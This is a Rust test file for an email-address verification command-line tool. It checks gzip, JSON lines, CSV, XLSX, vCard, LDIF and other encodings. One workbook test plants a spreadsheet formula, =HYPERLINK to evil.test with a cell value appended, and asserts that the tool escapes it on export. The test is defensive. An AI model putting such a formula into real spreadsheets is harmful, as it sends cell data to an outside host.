//! The kinds of file that go in and come out.

use std::fs;
use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use super::{LIST, folder_with, names, read, run, said, vet};
use crate::process;

#[test]
fn json_lines_keep_their_keys_and_gzip_is_unpacked() {
    let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(b"{\"user\":{\"email\":\"jane.doe@acme.test\"},\"n\":1}\n").unwrap();
    let folder = folder_with("users.jsonl.gz", packed.finish().unwrap());
    vet(folder.path(), &["users.jsonl.gz"]);
    let text = read(&folder, "users.vetted.jsonl");
    let row: serde_json::Value = serde_json::from_str(text.trim()).unwrap();
    assert_eq!(
        (row["n"].as_i64(), row["verification"]["verdict"].as_str()),
        (Some(1), Some("VERDICT_DELIVERABLE"))
    );
}

#[test]
fn a_table_may_become_json_lines() {
    let folder = folder_with("crm.csv", LIST);
    vet(folder.path(), &["crm.csv", "--format", "jsonl"]);
    let text = read(&folder, "crm.vetted.jsonl");
    let rows: Vec<serde_json::Value> =
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(rows.len(), 5);
    assert_eq!(rows[1]["E-Mail"], "nobody@acme.test");
    assert_eq!(rows[1]["verification"]["reason"], "REASON_MAILBOX_NOT_FOUND");
    assert_eq!((rows[3]["duplicateOf"].as_str(), rows[3].get("problem")), (Some("1"), None));
    assert_eq!(
        (rows[4]["problem"].as_str(), rows[4].get("verification")),
        (Some("no_address"), None)
    );
}

#[test]
fn parts_are_named_by_what_is_in_them() {
    let folder = folder_with("a.jsonl", "{\"email\":\"jane.doe@acme.test\"}\n");
    vet(folder.path(), &["a.jsonl", "-o", "-", "--split", "streamed"]);
    assert!(read(&folder, "streamed/deliverable.jsonl").starts_with("{\"email\""));
    assert!(!folder.path().join("streamed/deliverable.csv").exists());
    let args = ["a.jsonl", "-o", "out.csv.gz", "--format", "csv", "--split", "packed"];
    vet(folder.path(), &args);
    let packed = fs::read(folder.path().join("packed/deliverable.csv.gz")).unwrap();
    assert!(packed.starts_with(&[0x1f, 0x8b]), "{packed:?}");
}

#[test]
fn an_address_has_one_json_shape_in_verify_and_in_lists() {
    let folder = folder_with("a.jsonl", "{\"email\":\"nobody@acme.test\"}\n");
    vet(folder.path(), &["a.jsonl", "-o", "b.jsonl"]);
    vet(folder.path(), &["a.jsonl", "-o", "c.csv", "--format", "csv"]);
    let args = ["verify", "--sandbox", "--json", "nobody@acme.test"];
    let verified = process::run(folder.path(), &args, b"");
    let parse = |text: &str| serde_json::from_str::<serde_json::Value>(text.trim()).unwrap();
    let mut shapes = [
        parse(&String::from_utf8(verified.stdout).unwrap()),
        parse(&read(&folder, "b.jsonl"))["verification"].clone(),
    ];
    for shape in &mut shapes {
        // What differs from run to run.
        shape.as_object_mut().unwrap().remove("elapsedDuration");
        let evidence = shape["evidence"].as_object_mut().unwrap();
        assert!(evidence.remove("gatherTime").is_some(), "{evidence:?}");
        evidence.remove("exchangerIp");
    }
    assert_eq!(shapes[0], shapes[1]);
    assert_eq!(shapes[0]["evidence"]["code"], 550);
    assert!(read(&folder, "c.csv").contains(",undeliverable,suppress,mailbox_not_found,"));
}

#[test]
fn utf_16_and_latin_1_come_back_in_their_own_encoding() {
    let text = "name;mail\nMüller;jane.doe@acme.test\n";
    let mut utf_16 = vec![0xff, 0xfe];
    utf_16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let folder = folder_with("a.csv", utf_16);
    let latin_1: Vec<u8> = text.chars().map(|c| c as u32 as u8).collect();
    fs::write(folder.path().join("b.csv"), latin_1).unwrap();
    vet(folder.path(), &["a.csv"]);
    vet(folder.path(), &["b.csv"]);
    let a = fs::read(folder.path().join("a.vetted.csv")).unwrap();
    assert_eq!(a[..2], [0xff, 0xfe]);
    let b = fs::read(folder.path().join("b.vetted.csv")).unwrap();
    assert!(b.windows(6).any(|bytes| bytes == b"M\xfcller"));
    assert!(String::from_utf8_lossy(&b).contains("deliverable"));
}

#[test]
fn standard_input_is_a_list_too() {
    let folder = tempfile::tempdir().unwrap();
    let args = ["-", "-o", "out.csv", "--sandbox", "--quiet"];
    let output = run(folder.path(), &args, b"jane.doe@acme.test\n");
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    assert!(read(&folder, "out.csv").contains("deliverable"));
    assert_eq!(names(&folder), ["out.csv"]);
}

#[test]
fn a_workbook_goes_in_and_comes_out() {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write(0, 0, "Customers as of May").unwrap();
    for (column, name) in ["id", "E-Mail"].iter().enumerate() {
        sheet.write(2, column as u16, *name).unwrap();
    }
    for (row, address) in [(3, "jane.doe@acme.test"), (4, "nobody@acme.test")] {
        sheet.write(row, 0, row).unwrap();
        sheet.write(row, 1, address).unwrap();
    }
    sheet.write_string(4, 2, "=HYPERLINK(\"http://evil.test/?\"&B2,\"x\")").unwrap();
    let folder = folder_with("book.xlsx", book.save_to_buffer().unwrap());
    let output = vet(folder.path(), &["book.xlsx"]);
    assert!(said(&output).contains("XLSX workbook, sheet \"Sheet1\""), "{}", said(&output));
    assert_eq!(names(&folder), ["book.vetted.xlsx", "book.xlsx"]);
    vet(folder.path(), &["book.xlsx", "--format", "csv"]);
    let text = read(&folder, "book.vetted.csv");
    assert!(text.starts_with("Customers as of May\n\nid,E-Mail,verdict,"), "{text}");
    assert!(text.contains("3,jane.doe@acme.test,deliverable,send,"), "{text}");
    assert!(text.contains(",\"'=HYPERLINK("), "{text}");
    vet(folder.path(), &["book.vetted.xlsx", "--depth", "syntax", "-o", "again.csv"]);
    let text = read(&folder, "again.csv");
    assert!(text.starts_with("Customers as of May\nid,E-Mail,verdict,"), "{text}");
    assert!(text.contains("3,jane.doe@acme.test,deliverable,send,"), "{text}");
}

#[test]
fn a_text_file_keeps_its_ending_with_its_delimiter() {
    let folder = folder_with("tabs.txt", "id\temail\n1\tjane.doe@acme.test\n");
    let write = |name: &str, text: &str| fs::write(folder.path().join(name), text).unwrap();
    write("plain.txt", "jane.doe@acme.test\n");
    write("commas.txt", "id,email\n1,jane.doe@acme.test\n");
    for (name, vetted) in [
        ("tabs.txt", "tabs.vetted.txt"),
        ("plain.txt", "plain.vetted.csv"),
        ("commas.txt", "commas.vetted.csv"),
    ] {
        vet(folder.path(), &[name]);
        assert!(read(&folder, vetted).contains("deliverable"), "{name}");
    }
}

#[test]
fn documents_and_cards_are_lists_too() {
    let card = "BEGIN:VCARD\r\nFN:Jane\r\nEMAIL:jane.doe@acme.test\r\nEND:VCARD\r\n";
    let folder = folder_with("a.vcf", card);
    let write = |name: &str, text: &str| fs::write(folder.path().join(name), text).unwrap();
    write("b.json", "[{\"emails\": [\"jane.doe@acme.test\"]}]");
    write("c.ldif", "dn: uid=jane\nmail: jane.doe@acme.test\n");
    for (name, row) in [
        ("a", "Jane,jane.doe@acme.test,deliverable"),
        ("b", "jane.doe@acme.test,deliverable"),
        ("c", "uid=jane,,jane.doe@acme.test,deliverable"),
    ] {
        let file = names(&folder).into_iter().find(|n| n.starts_with(name)).unwrap();
        vet(folder.path(), &[&file]);
        let text = read(&folder, &format!("{name}.vetted.csv"));
        assert!(text.contains(row), "{name}: {text}");
        fs::remove_file(folder.path().join(format!("{name}.vetted.csv"))).unwrap();
    }
}
